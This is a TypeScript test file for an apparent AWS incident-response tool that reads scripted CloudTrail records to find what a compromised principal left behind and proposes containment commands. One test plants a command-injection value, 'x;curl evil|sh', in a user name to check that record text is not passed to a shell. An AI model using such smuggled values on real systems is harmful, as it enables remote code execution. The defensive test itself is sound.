import { describe, expect, it } from 'vitest';
import { type AccessEntry, entriesOf } from '../../../shared/access/access-entry.ts';
import type { PrincipalSubject } from '../../../shared/cases/subject.ts';
import { decodeRecord } from '../../../shared/cloudtrail/decode-record.ts';
import type { JsonObject } from '../../../shared/json.ts';
import type { AccessReader } from '../../../shared/ports/access-reader.ts';
import { NotLoadedError } from '../../../shared/ports/not-loaded.ts';
import type { LookupAsked, LookupKey, Trail } from '../../../shared/ports/trail-history.ts';
import { broughtByResidue, proposedIn } from '../../../shared/residue/residue.ts';
import { sweepResidue } from '../../../shared/residue/sweep-residue.ts';
import { ACCOUNT, detection, mallory } from '../../support/case-scene.ts';
import { createFakeIam } from '../../support/fake-iam.ts';

/*
 * CloudTrail is scripted here: records of the documented shape, and its answers by one attribute. The embedded AWS keeps no
 * identities in its records, so none of them would be anybody's.
 */
const NOW = new Date('2026-11-21T03:00:00.000Z');
const of = { subject: mallory, openedAt: '2026-11-21T02:00:02.000Z', planVersion: 1 } as const;
const deps = (trails: readonly Trail[], fake = createFakeIam()) => ({
  trails,
  iam: fake.iam,
  clock: { now: () => NOW },
});

const refusing = (fault: Error): Trail => ({
  region: 'eu-central-1',
  history: {
    // biome-ignore lint/correctness/useYield: it is refused before there is a page
    async *pages() {
      throw fault;
    },
  },
});

function record(by: JsonObject, eventName: string, more: JsonObject = {}): JsonObject {
  return {
    eventVersion: '1.11',
    userIdentity: by,
    eventTime: '2026-11-21T01:30:00Z',
    eventSource: 'iam.amazonaws.com',
    eventName,
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli',
    eventID: `id-of-${eventName}-${JSON.stringify(more).length}`,
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    ...more,
  };
}
const user = (name: string, principalId: string, accessKeyId: string): JsonObject => ({
  type: 'IAMUser',
  principalId,
  arn: `arn:aws:iam::${ACCOUNT}:user/${name}`,
  accountId: ACCOUNT,
  accessKeyId,
  userName: name,
});
const session = (role: string, roleId: string, name: string, accessKeyId: string): JsonObject => ({
  type: 'AssumedRole',
  principalId: `${roleId}:${name}`,
  arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${name}`,
  accountId: ACCOUNT,
  accessKeyId,
  sessionContext: {
    sessionIssuer: {
      type: 'Role',
      principalId: roleId,
      arn: `arn:aws:iam::${ACCOUNT}:role/${role}`,
      accountId: ACCOUNT,
      userName: role,
    },
    attributes: { creationDate: '2026-11-21T01:00:00Z', mfaAuthenticated: 'false' },
  },
});
const assumes = (by: JsonObject, role: string, roleId: string, name: string, key: string): JsonObject =>
  record(by, 'AssumeRole', {
    eventSource: 'sts.amazonaws.com',
    requestParameters: { roleArn: `arn:aws:iam::${ACCOUNT}:role/${role}`, roleSessionName: name },
    responseElements: {
      credentials: { accessKeyId: key, expiration: 'Nov 21, 2026, 2:00:00 AM' },
      assumedRoleUser: {
        assumedRoleId: `${roleId}:${name}`,
        arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${name}`,
      },
    },
  });

const malloryCalls = user('mallory', 'AIDAMALLORY', 'AKIAMALLORY1');

/** Answers as CloudTrail does: by the one attribute that was asked for, some records a page. */
function trail(records: readonly JsonObject[], { pageSize = 50, region = 'us-east-1' } = {}) {
  const asked: LookupAsked[] = [];
  const history: Trail = {
    region,
    history: {
      async *pages(question) {
        asked.push(question);
        const matching = records.filter((one) => question.by !== undefined && answers(question.by, one));
        for (let from = 0; from === 0 || from < matching.length; from += pageSize) {
          yield { records: matching.slice(from, from + pageSize), unreadable: 0 };
        }
      },
    },
  };
  return { history, asked };
}
function answers({ key, value }: LookupKey, one: JsonObject): boolean {
  const identity = JSON.parse(JSON.stringify(one.userIdentity));
  if (key === 'AccessKeyId') return identity.accessKeyId === value;
  if (key === 'Username') return (identity.userName ?? identity.principalId?.split(':')[1]) === value;
  return JSON.stringify(one.requestParameters ?? {}).includes(value);
}

describe('what the subject left behind', () => {
  it('is told with who made it, whether it is still there, and the command that contains it', async () => {
    const fake = createFakeIam();
    const { userId } = fake.createUser('backdoor');
    const { history } = trail([
      record(malloryCalls, 'CreateUser', {
        requestParameters: { userName: 'backdoor' },
        responseElements: { user: { userName: 'backdoor', userId, arn: `arn:aws:iam::${ACCOUNT}:user/backdoor` } },
      }),
      record(malloryCalls, 'CreateUser', {
        requestParameters: { userName: 'deleted-again' },
        responseElements: { user: { userName: 'deleted-again', userId: 'AIDADELETED' } },
      }),
    ]);
    const residue = await sweepResidue(deps([history], fake), of, [detection()]);
    expect(residue.items).toMatchObject([
      {
        what: 'user backdoor, created',
        by: 'mallory',
        state: 'live',
        contain: 'npx rescind contain backdoor --enforce',
      },
      { what: 'user deleted-again, created', state: 'gone' },
    ]);
    expect(proposedIn(residue)).toHaveLength(1);
  });

  it('is looked for from a day before the first detection on', async () => {
    const { history, asked } = trail([]);
    const residue = await sweepResidue(deps([history]), of, [detection({ eventTime: '2026-11-21T01:00:00Z' })]);
    expect(asked).toEqual([
      { by: { key: 'Username', value: 'mallory' }, from: new Date('2026-11-20T01:00:00.000Z'), to: NOW },
      // Who helped did so once there was something to take back.
      { by: { key: 'ResourceName', value: 'mallory' }, from: new Date(of.openedAt), to: NOW },
    ]);
    expect(residue.limits).toEqual(['CloudTrail tells management events of us-east-1 only, up to 15 minutes late']);
  });

  it('includes what was done by a key that it made, by a session that it opened and by one that this opened', async () => {
    const fake = createFakeIam();
    fake.createUser('bob', { accessKeys: new Map([['AKIABOB2', 'Active']]) });
    fake.createRole('deployer', { inline: new Map([['door', '{}']]) });
    const first = session('builder', 'AROABUILDER', 'one', 'ASIAONE');
    const second = session('deployer', 'AROADEPLOYER', 'two', 'ASIATWO');
    const { history } = trail([
      record(malloryCalls, 'CreateAccessKey', {
        requestParameters: { userName: 'bob' },
        responseElements: { accessKey: { userName: 'bob', accessKeyId: 'AKIABOB2', status: 'Active' } },
      }),
      record(user('bob', 'AIDABOB', 'AKIABOB2'), 'CreateOpenIDConnectProvider', {
        responseElements: { openIDConnectProviderArn: `arn:aws:iam::${ACCOUNT}:oidc-provider/idp.example.com` },
      }),
      assumes(malloryCalls, 'builder', 'AROABUILDER', 'one', 'ASIAONE'),
      assumes(first, 'deployer', 'AROADEPLOYER', 'two', 'ASIATWO'),
      record(second, 'PutRolePolicy', {
        requestParameters: { roleName: 'deployer', policyName: 'door', policyDocument: '{}' },
      }),
    ]);
    const { items } = await sweepResidue(deps([history], fake), of, [detection()]);
    expect(items.map(({ what, by, state }) => [what, by, state])).toEqual([
      ['access key AKIABOB2 of user bob, created', 'mallory', 'live'],
      [`identity provider arn:aws:iam::${ACCOUNT}:oidc-provider/idp.example.com, created`, 'bob', 'unknown'],
      ['inline policy door of role deployer, written', 'deployer/two', 'live'],
    ]);
  });

  it('follows a role that it made to whoever opens sessions of it, from wherever', async () => {
    const outsider = { type: 'AWSAccount', principalId: 'AIDAOUTSIDE', accountId: '999988887777' };
    const arn = `arn:aws:iam::${ACCOUNT}:role/door`;
    const { history } = trail([
      record(malloryCalls, 'CreateRole', {
        requestParameters: { roleName: 'door' },
        responseElements: { role: { roleName: 'door', roleId: 'AROADOOR', arn } },
      }),
      assumes(outsider, 'door', 'AROADOOR', 'x', 'ASIADOOR'),
      record(session('door', 'AROADOOR', 'x', 'ASIADOOR'), 'CreateFunctionUrlConfig', {
        eventSource: 'lambda.amazonaws.com',
        requestParameters: { functionName: 'shell' },
      }),
    ]);
    const { items } = await sweepResidue(deps([history]), of, [detection()]);
    expect(items.map(({ contain }) => contain)).toEqual([
      `npx rescind contain ${arn} --enforce`,
      'aws lambda delete-function-url-config --function-name shell --region us-east-1',
    ]);
  });

  it('comes to an end where roles assume each other', async () => {
    const [a, b] = [session('a', 'AROAA', 'x', 'ASIAA'), session('b', 'AROAB', 'x', 'ASIAB')];
    const { history, asked } = trail([
      assumes(malloryCalls, 'a', 'AROAA', 'x', 'ASIAA'),
      assumes(a, 'b', 'AROAB', 'x', 'ASIAB'),
      assumes(b, 'a', 'AROAA', 'x', 'ASIAA'),
    ]);
    await sweepResidue(deps([history]), of, [detection()]);
    expect(asked.map(({ by }) => by?.value)).toEqual(['mallory', 'ASIAA', 'ASIAB', 'mallory']);
  });

  it('is nobody else’s doing: a name is not an id, and what failed made nothing', async () => {
    const created = { requestParameters: { userName: 'new' }, responseElements: { user: { userName: 'new' } } };
    const { history } = trail([
      record(user('mallory', 'AIDAIMPOSTOR', 'AKIAIMPOSTOR'), 'CreateUser', created),
      record(malloryCalls, 'CreateUser', { ...created, errorCode: 'EntityAlreadyExists', responseElements: null }),
    ]);
    expect((await sweepResidue(deps([history]), of, [detection()])).items).toEqual([]);
  });

  it('of the subject itself is proposed to nobody, and a release keeps its new key back', async () => {
    const { history } = trail([
      record(malloryCalls, 'CreateAccessKey', {
        responseElements: { accessKey: { userName: 'mallory', accessKeyId: 'AKIAMALLORY2', status: 'Active' } },
      }),
    ]);
    const residue = await sweepResidue(deps([history]), of, [detection()]);
    expect(proposedIn(residue)).toEqual([]);
    expect(broughtByResidue(residue)).toEqual([
      {
        granted: [{ kind: 'access-key-created', principal: 'mallory', accessKeyId: 'AKIAMALLORY2' }],
        foundLater: true,
      },
    ]);
  });

  it('puts no text of a record into a command that a shell would read as more than a name', async () => {
    const { history } = trail([
      record(malloryCalls, 'CreateUser', {
        responseElements: { user: { userName: 'x;curl evil|sh', userId: 'AIDAEVIL' } },
      }),
    ]);
    const { items } = await sweepResidue(deps([history]), of, [detection()]);
    expect(items.map(({ contain }) => contain)).toEqual(['npx rescind contain USER-NAME --enforce']);
  });

  it('says where it stopped: many pages, many principals, a CloudTrail that does not answer', async () => {
    const many = Array.from({ length: 40 }, (_, n) =>
      record(malloryCalls, 'CreateUser', {
        responseElements: { user: { userName: `user-${n}`, userId: `AIDANUMBER${n}` } },
      }),
    );
    const crowded = await sweepResidue(deps([trail(many).history]), of, [detection()]);
    expect(crowded.limits).toContain('21 more that were made or assumed were not looked through');
    const paged = await sweepResidue(deps([trail(many, { pageSize: 2 }).history]), of, [detection()]);
    expect(paged.limits).toContain('CloudTrail of us-east-1 was asked for 16 pages; there may be more');
    expect(paged.items).toHaveLength(32);
    const silent = refusing(Object.assign(new Error('not authorized'), { name: 'AccessDeniedException' }));
    const half = await sweepResidue(deps([silent, trail(many.slice(0, 1)).history]), of, [detection()]);
    expect(half.items).toHaveLength(1);
    expect(half.limits).toContain(
      'CloudTrail of eu-central-1 could not be asked: AccessDeniedException: not authorized',
    );
  });

  it('fails where a part of the code is missing: that is no answer of CloudTrail', async () => {
    const fault = new NotLoadedError(new Error('no such file'));
    await expect(sweepResidue(deps([refusing(fault)]), of, [detection()])).rejects.toBe(fault);
  });

  it('is taken from the access table where CloudTrail does not tell it, for the subject alone and with where to look', async () => {
    const made = record(malloryCalls, 'CreateUser', {
      requestParameters: { userName: 'backdoor' },
      responseElements: { user: { userName: 'backdoor', arn: `arn:aws:iam::${ACCOUNT}:user/backdoor` } },
    });
    const read = record(malloryCalls, 'ListUsers', { readOnly: true });
    const failed = record(malloryCalls, 'CreateRole', {
      requestParameters: { roleName: 'x' },
      errorCode: 'AccessDenied',
    });
    const entries = [made, read, failed].map(decodeRecord).flatMap((one) => {
      if (one.kind !== 'decoded') throw new Error(one.reason);
      return entriesOf(one.event);
    });
    const asked: [string, string, string][] = [];
    const accesses: Pick<AccessReader, 'accessesBy' | 'accessesTo'> = {
      accessesTo: async () => [],
      accessesBy: async (principal, { day, since }) => {
        asked.push([principal, day, since]);
        return entries.filter((entry) => entry.principal === principal && entry.at.startsWith(day));
      },
    };
    const before = '2026-11-20T02:00:00.000Z';
    const residue = await sweepResidue({ ...deps([trail([]).history]), accesses }, of, [detection()]);
    expect(asked).toEqual([
      ['user:AIDAMALLORY', '2026-11-21', before],
      ['user:AIDAMALLORY', '2026-11-20', before],
    ]);
    expect(residue.items).toMatchObject([
      {
        what: `CreateUser on arn:aws:iam::${ACCOUNT}:user/backdoor`,
        by: 'mallory',
        state: 'unknown',
        contain: `npx rescind contain arn:aws:iam::${ACCOUNT}:user/backdoor --enforce`,
      },
    ]);
    // Told by both, it is one thing.
    const both = await sweepResidue({ ...deps([trail([made]).history]), accesses }, of, [detection()]);
    expect(both.items.map(({ what }) => what)).toEqual(['user backdoor, created']);
  });
});

describe('whoever changes the subject while it is contained', () => {
  const builder: PrincipalSubject = {
    kind: 'role',
    key: 'role:AROABUILDER',
    account: ACCOUNT,
    roleId: 'AROABUILDER',
    roleName: 'builder',
    arn: `arn:aws:iam::${ACCOUNT}:role/builder`,
  };
  const bySession: PrincipalSubject = {
    ...builder,
    kind: 'session',
    key: 'session:AROABUILDER:one',
    sessionName: 'one',
  };
  const bob = user('bob', 'AIDABOB', 'AKIABOB1');
  const on = (by: JsonObject, eventName: string, more: JsonObject = {}): JsonObject =>
    record(by, eventName, { eventTime: '2026-11-21T02:10:00Z', requestParameters: { roleName: 'builder' }, ...more });
  const proposed = async (subject: PrincipalSubject, records: readonly JsonObject[], openedAt = of.openedAt) => {
    const residue = await sweepResidue(deps([trail(records).history]), { ...of, subject, openedAt }, []);
    return proposedIn(residue).map(({ what, by, contain }) => [what, by, contain]);
  };
  const entriesIn = (one: JsonObject): readonly AccessEntry[] => {
    const decoded = decodeRecord(one);
    if (decoded.kind !== 'decoded') throw new Error(decoded.reason);
    return entriesOf(decoded.event);
  };
  const tableOf = (entries: readonly AccessEntry[]): Pick<AccessReader, 'accessesBy' | 'accessesTo'> => ({
    accessesBy: async () => [],
    accessesTo: async (arn, { day }) =>
      entries.filter(({ resource, at }) => resource?.arn === arn && at.startsWith(day)),
  });

  it('is proposed: by the trust policy or the boundary, each once, with the command that contains them', async () => {
    const helper = session('deployer', 'AROADEPLOYER', 'two', 'ASIATWO');
    expect(
      await proposed(builder, [
        on(bob, 'UpdateAssumeRolePolicy'),
        on(bob, 'UpdateAssumeRolePolicy', { eventTime: '2026-11-21T02:11:00Z' }),
        on(helper, 'DeleteRolePermissionsBoundary'),
      ]),
    ).toEqual([
      [expect.stringContaining('role builder, trust policy changed'), 'bob', 'npx rescind contain AIDABOB --enforce'],
      [
        expect.stringContaining('role builder, permissions boundary deleted'),
        'deployer/two',
        `npx rescind contain arn:aws:sts::${ACCOUNT}:assumed-role/deployer/two --enforce`,
      ],
    ]);
  });

  it('ten are told, and of more than that how many are left out', async () => {
    const helpers = Array.from({ length: 12 }, (_, index) =>
      on(user(`helper-${index}`, `AIDAHELPER${index}`, `AKIA${index}`), 'UpdateAssumeRolePolicy', {
        eventID: `help ${index}`,
      }),
    );
    const told = async (some: readonly JsonObject[]) => {
      const residue = await sweepResidue(deps([trail(some).history]), { ...of, subject: builder }, []);
      return [proposedIn(residue).length, residue.limits.filter((limit) => limit.includes('by others'))];
    };
    expect(await told(helpers.slice(0, 10))).toEqual([10, []]);
    expect(await told(helpers)).toEqual([10, ['2 more changes of the subject by others were found than are told']]);
  });

  it.each<readonly [string, PrincipalSubject, JsonObject]>([
    ['did so before', builder, on(bob, 'UpdateAssumeRolePolicy', { eventTime: '2026-11-21T02:00:01Z' })],
    ['was refused', builder, on(bob, 'UpdateAssumeRolePolicy', { errorCode: 'AccessDenied' })],
    [
      'changed another role',
      builder,
      on(bob, 'UpdateAssumeRolePolicy', { requestParameters: { roleName: 'builder-2' } }),
    ],
    [
      'wrote a policy of their own',
      builder,
      on(bob, 'PutRolePolicy', { requestParameters: { roleName: 'builder', policyName: 'own' } }),
    ],
    ['is Rescind', builder, on(session('Rescind-contain', 'AROARESCIND', 'x', 'ASIAX'), 'UpdateAssumeRolePolicy')],
    [
      'is the role itself',
      builder,
      on(session('builder', 'AROABUILDER', 'one', 'ASIAONE'), 'DeleteRolePermissionsBoundary'),
    ],
    [
      'is the session itself',
      bySession,
      on(session('builder', 'AROABUILDER', 'one', 'ASIAONE'), 'DeleteRolePermissionsBoundary'),
    ],
    [
      'is the user itself',
      mallory,
      on(malloryCalls, 'DeleteUserPermissionsBoundary', { requestParameters: { userName: 'mallory' } }),
    ],
  ])('is not proposed who %s, by the history and by the table', async (_, subject, one) => {
    expect(await proposed(subject, [one])).toEqual([]);
    const accesses = tableOf(entriesIn(one));
    const residue = await sweepResidue({ ...deps([trail([]).history]), accesses }, { ...of, subject }, []);
    expect(residue.items).toEqual([]);
  });

  it('is proposed where another session of the same role did it, and where it took the deny off', async () => {
    const other = session('builder', 'AROABUILDER', 'two', 'ASIATWO');
    const off = on(other, 'DeleteRolePolicy', {
      requestParameters: { roleName: 'builder', policyName: 'Rescind-RevokeSession-1' },
    });
    expect((await proposed(bySession, [off])).map(([what, by]) => [what, by])).toEqual([
      [expect.stringContaining('role builder, DeleteRolePolicy'), 'builder/two'],
    ]);
  });

  it('is found in the access table, which knows it sooner, and told once', async () => {
    const edit = on(bob, 'UpdateAssumeRolePolicy');
    const accesses = tableOf(
      [edit, on(session('Rescind-contain', 'AROARESCIND', 'x', 'ASIAX'), 'UpdateAssumeRolePolicy')].flatMap(entriesIn),
    );
    for (const records of [[], [edit]]) {
      const residue = await sweepResidue(
        { ...deps([trail(records).history]), accesses },
        { ...of, subject: builder },
        [],
      );
      expect(proposedIn(residue).map(({ what, by, contain }) => [what, by, contain])).toEqual([
        [expect.stringContaining('role builder, trust policy changed'), 'bob', 'npx rescind contain AIDABOB --enforce'],
      ]);
    }
  });

  it('is not hidden by a flood of what the subject itself does', async () => {
    const flood = Array.from({ length: 40 }, () => record(malloryCalls, 'ListUsers', { readOnly: true }));
    const unbound = on(bob, 'DeleteUserPermissionsBoundary', { requestParameters: { userName: 'mallory' } });
    const { history } = trail([...flood, unbound], { pageSize: 2 });
    const residue = await sweepResidue(deps([history]), of, []);
    expect(residue.limits).toContain('CloudTrail of us-east-1 was asked for 16 pages; there may be more');
    expect(proposedIn(residue).map(({ by }) => by)).toEqual(['bob']);
  });

  it('is looked for in so many pages, and it is said where there may be more', async () => {
    const others = Array.from({ length: 10 }, () => on(bob, 'TagRole'));
    const { history } = trail([...others, on(bob, 'UpdateAssumeRolePolicy')], { pageSize: 2 });
    const residue = await sweepResidue(deps([history]), { ...of, subject: builder }, []);
    expect(residue.limits).toContain('CloudTrail of us-east-1 was asked for 4 pages; there may be more');
  });
});
